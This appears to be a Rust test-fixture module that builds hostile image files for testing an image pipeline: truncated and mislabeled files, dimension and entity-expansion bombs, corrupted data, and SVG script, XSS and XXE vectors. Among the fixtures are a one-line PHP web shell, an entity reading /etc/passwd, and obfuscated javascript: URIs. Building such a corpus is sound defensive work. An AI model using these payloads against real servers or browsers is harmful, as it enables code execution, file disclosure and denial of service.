//! Files that are called pictures: damaged, of another kind, without bounds, or made to run something.

use std::collections::BTreeSet;

use super::photograph::photograph;

/// The formats of pictures that have dots, by their endings.
const RASTER: [&str; 5] = ["jpg", "png", "webp", "gif", "bmp"];

/// A file, and what it is.
pub struct Hostile {
    pub name: String,
    pub bytes: Vec<u8>,
}

fn hostile(name: impl Into<String>, bytes: impl Into<Vec<u8>>) -> Hostile {
    Hostile { name: name.into(), bytes: bytes.into() }
}

fn drawing(inner: &str) -> String {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"640\" height=\"424\">{inner}</svg>"
    )
}

fn whole(ending: &str) -> Vec<u8> {
    match ending {
        "svg" => drawing("<rect width=\"640\" height=\"424\"/><path d=\"M0 0h9v9z\"/>").into(),
        _ => photograph(64, 42, ending),
    }
}

/// Files that end before their end.
pub fn truncated() -> Vec<Hostile> {
    let endings = RASTER.into_iter().chain(["svg"]);
    let cut = |ending: &'static str| {
        let bytes = whole(ending);
        let len = bytes.len();
        let lengths = BTreeSet::from([0, 1, 3, 9, 20, len / 8, len / 4, len / 2, len * 3 / 4, len - 6]);
        lengths.into_iter().map(move |at| hostile(format!("cut-{at}.{ending}"), &bytes[..at]))
    };
    endings.flat_map(cut).collect()
}

/// Files that are something else than their names say.
pub fn other_kinds() -> Vec<Hostile> {
    let heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\x08mdat";
    let others: [(&str, &[u8]); 8] = [
        ("html", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"),
        ("zip", b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
        ("elf", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
        ("tiff", b"II*\0\x08\0\0\0\0\0\0\0\0\0"),
        ("heic", heic),
        ("txt", "写真です。\n".as_bytes()),
        ("php", b"<?php system($_GET['c']); ?>"),
    ];
    let mut files = Vec::new();
    for ending in RASTER.into_iter().chain(["svg", "avif"]) {
        for (kind, bytes) in others {
            files.push(hostile(format!("{kind}-called.{ending}"), bytes));
        }
        for kind in RASTER.into_iter().chain(["svg"]).filter(|kind| *kind != ending) {
            files.push(hostile(format!("{kind}-called.{ending}"), whole(kind)));
        }
    }
    files
}

/// Files with more dots, or words, than a machine has room for.
pub fn bombs() -> Vec<Hostile> {
    let mut png = whole("png");
    png[16..24].copy_from_slice(&[0x7F, 0xFF, 0xFF, 0xFF, 0x7F, 0xFF, 0xFF, 0xFF]);
    checksum(&mut png);
    let mut large_png = whole("png");
    large_png[16..24].copy_from_slice(&[0, 0, 0x40, 0, 0, 0, 0x40, 0]);
    checksum(&mut large_png);
    let mut bmp = whole("bmp");
    bmp[18..26].copy_from_slice(&[0xFF, 0xFF, 0xFF, 0x7F, 0xFF, 0xFF, 0xFF, 0x7F]);
    let mut gif = whole("gif");
    gif[6..10].copy_from_slice(&[0xFF; 4]);
    let webp = [
        b"RIFF\x1A\0\0\0WEBPVP8X\x0A\0\0\0\0\0\0\0".as_slice(),
        &[0xFE, 0x3F, 0, 0xFE, 0x3F, 0],
        b"VP8 \0\0\0\0",
    ];
    let mut laughs = "<!ENTITY a0 \"ha\">".to_owned();
    for at in 1..30 {
        laughs.push_str(&format!("<!ENTITY a{at} \"{}\">", format!("&a{};", at - 1).repeat(10)));
    }
    let long = format!("<!DOCTYPE svg [<!ENTITY a \"{}\">]>", "a".repeat(900));
    let namespaces: String = (0..1_000).map(|at| format!("xmlns:a{at}=\"a\" ")).collect();
    vec![
        hostile("bomb.png", png),
        hostile("bomb-268-megapixels.png", large_png),
        hostile("bomb.jpg", with_frame(&whole("jpg"), 0xFFFF, 0xFFFF)),
        hostile("bomb.bmp", bmp),
        hostile("bomb.gif", gif),
        hostile("bomb.webp", webp.concat()),
        hostile("laughs.svg", format!("<!DOCTYPE svg [{laughs}]>{}", drawing("<text>&a29;</text>"))),
        hostile("long.svg", long + &drawing(&format!("<text>{}</text>", "&a;".repeat(500_000)))),
        hostile("namespaces.svg", drawing(&format!("<g {namespaces}/>"))),
        hostile("brackets.svg", drawing(&format!("<g style=\"a:{}\"/>", "(".repeat(100_000)))),
        hostile("larger-than-any.svg", drawing(&" ".repeat(17_000_000))),
    ]
}

/// Files of which parts are missing or make no sense.
pub fn damaged() -> Vec<Hostile> {
    let (jpg, png, webp, gif) = (whole("jpg"), whole("png"), whole("webp"), whole("gif"));
    let without = |bytes: &[u8], from: &[u8], len: usize| {
        let at = find(bytes, from);
        [&bytes[..at], &bytes[at + len..]].concat()
    };
    let mut no_size = png.clone();
    no_size[16..24].fill(0);
    checksum(&mut no_size);
    let mut lost_lines = png.clone();
    lost_lines.drain(8..33);
    let mut no_trailer = png.clone();
    no_trailer.truncate(png.len() - 12);
    let mut other_riff = webp.clone();
    other_riff[4..8].fill(0xFF);
    let frame = find(&jpg, &[0xFF, 0xC0]);
    let frame_len = usize::from(u16::from_be_bytes([jpg[frame + 2], jpg[frame + 3]])) + 2;
    vec![
        hostile("no-size.png", no_size),
        hostile("no-header.png", lost_lines),
        hostile("no-end.png", no_trailer),
        hostile("no-data.png", [&png[..33], &png[png.len() - 12..]].concat()),
        hostile("no-frame.gif", [&gif[..13], b";"].concat()),
        hostile("no-frame.jpg", without(&jpg, &[0xFF, 0xC0], frame_len)),
        hostile("no-size.jpg", with_frame(&jpg, 0, 0)),
        hostile("nothing-but-ends.jpg", [0xFF, 0xD8, 0xFF, 0xD9]),
        hostile("longer-than-it-is.webp", other_riff),
        hostile("no-data.webp", b"RIFF\x04\0\0\0WEBP".as_slice()),
        hostile("nonsense.jpg", [&[0xFF, 0xD8, 0xFF, 0xE0][..], &[0x41; 3_000]].concat()),
        hostile("zeros.png", [0; 5_000]),
        hostile("ones.webp", [0xFF; 5_000]),
        hostile(
            "encoding.svg",
            [b"<svg xmlns='http://www.w3.org/2000/svg'><text>".as_slice(), &[0x94, 0x5C], b"</text></svg>"]
                .concat(),
        ),
        hostile("crossed.svg", drawing("<g><a></g></a>")),
        hostile("two.svg", drawing("").repeat(2)),
        hostile("ampersand.svg", drawing("<text>a & b</text>")),
        hostile("unquoted.svg", drawing("<g id=a/>")),
        hostile("none.svg", "<x/>"),
    ]
}

/// Drawings that run or fetch something.
pub fn scripts() -> Vec<Hostile> {
    let inner = [
        "<script>alert(1)</script>",
        "<script href=\"https://www.example.org/a.js\"/>",
        "<SCRIPT/>",
        "<a:script xmlns:a=\"http://www.w3.org/2000/svg\">alert(1)</a:script>",
        "<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
        "<g onclick=\"alert(1)\"/>",
        "<g onload=\"alert(1)\"/>",
        "<animate onbegin=\"alert(1)\" attributeName=\"x\"/>",
        "<set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
        "<set attributeName=\"href\" to=\"javascript:alert(1)\"/>",
        "<animate attributeName=\"xlink:href\" values=\"#a;javascript:alert(1)\"/>",
        "<a href=\"javascript:alert(1)\"/>",
        "<a xlink:href=\" java&#115;cript&#58;alert(1)\"/>",
        "<a href=\"&#1;javascript:alert(1)\"/>",
        "<a href=\"data:text/html,%3Cscript%3E\"/>",
        "<a href=\"vbscript:a\"/>",
        "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\">a</body></foreignObject>",
        "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://www.example.org/\"/>",
        "<image href=\"https://www.example.org/x.png\"/>",
        "<image href=\"x.svg\"/>",
        "<image href=\"data:image/svg+xml;base64,PHN2Zz4=\"/>",
        "<use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/>",
        "<use href=\"https://www.example.org/x.svg#a\"/>",
        "<use href=\"file:///etc/passwd#a\"/>",
        "<feImage href=\"//www.example.org/x.png\"/>",
        "<style>@import url(//www.example.org/a.css);</style>",
        "<style>@\\69 mport 'a.css';</style>",
        "<style>a { fill: u\\72l(//www.example.org) }</style>",
        "<style><![CDATA[a { background: url(x) }]]></style>",
        "<style>a { background: image-set('x' 1x) }</style>",
        "<g style=\"fill: url(https://www.example.org/#a)\"/>",
        "<g filter=\"url(x.svg#a)\"/>",
        "<text>&unknown;</text>",
    ];
    let mut files: Vec<_> = inner
        .iter()
        .enumerate()
        .map(|(at, inner)| hostile(format!("script-{at}.svg"), drawing(inner)))
        .collect();
    let with = |declared: &str| {
        format!("<!DOCTYPE svg [{declared}]>{}", drawing("<text>&x;</text><a href=\"&x;\"/>"))
    };
    files.push(hostile("entity.svg", with("<!ENTITY x \"javascript:alert(1)\">")));
    files.push(hostile("file.svg", with("<!ENTITY x SYSTEM \"file:///etc/passwd\">")));
    files.push(hostile("parameter.svg", with("<!ENTITY % y SYSTEM \"https://www.example.org/\"> %y;")));
    files.push(hostile("sheet.svg", format!("<?xml-stylesheet href=\"a.css\"?>{}", drawing(""))));
    let utf16 = drawing("<script>alert(1)</script>");
    let utf16 = utf16.encode_utf16().flat_map(u16::to_le_bytes);
    files.push(hostile("utf16.svg", [0xFF, 0xFE].into_iter().chain(utf16).collect::<Vec<u8>>()));
    files
}

/// Pictures whose beginning says that they are whole. What is wrong shows when they are decoded.
pub fn broken_within() -> Vec<Hostile> {
    let spoilt = |ending: &str| {
        let mut bytes = photograph(400, 260, ending);
        let (from, to) = (bytes.len() / 3, bytes.len() - 40);
        bytes[from..to].fill(0xA5);
        bytes
    };
    let mut png = spoilt("png");
    checksums(&mut png);
    // The length of the first partition (RFC 6386, 9.1).
    let mut webp = photograph(400, 260, "webp");
    webp[20] |= 0xE0;
    webp[21..23].fill(0xFF);
    vec![hostile("within.png", png), hostile("within.webp", webp), hostile("within.gif", spoilt("gif"))]
}

fn find(bytes: &[u8], what: &[u8]) -> usize {
    bytes.windows(what.len()).position(|it| it == what).unwrap()
}

/// A JPEG that says to have so many dots.
fn with_frame(jpg: &[u8], width: u16, height: u16) -> Vec<u8> {
    let mut bytes = jpg.to_vec();
    let at = find(jpg, &[0xFF, 0xC0]) + 5;
    bytes[at..at + 2].copy_from_slice(&height.to_be_bytes());
    bytes[at + 2..at + 4].copy_from_slice(&width.to_be_bytes());
    bytes
}

/// Mends the checksum of a PNG's header.
fn checksum(png: &mut [u8]) {
    let sum = crc(&png[12..29]);
    png[29..33].copy_from_slice(&sum);
}

/// Mends all checksums of a PNG.
fn checksums(png: &mut [u8]) {
    let mut at = 8;
    while at + 12 <= png.len() {
        let len = u32::from_be_bytes([png[at], png[at + 1], png[at + 2], png[at + 3]]) as usize;
        let Some(sum) = png.get(at + 4..at + 8 + len).map(crc) else { return };
        png[at + 8 + len..at + 12 + len].copy_from_slice(&sum);
        at += 12 + len;
    }
}

fn crc(bytes: &[u8]) -> [u8; 4] {
    let sum = bytes.iter().fold(!0u32, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| crc >> 1 ^ (0xedb8_8320 & (crc & 1).wrapping_neg()))
    });
    (!sum).to_be_bytes()
}
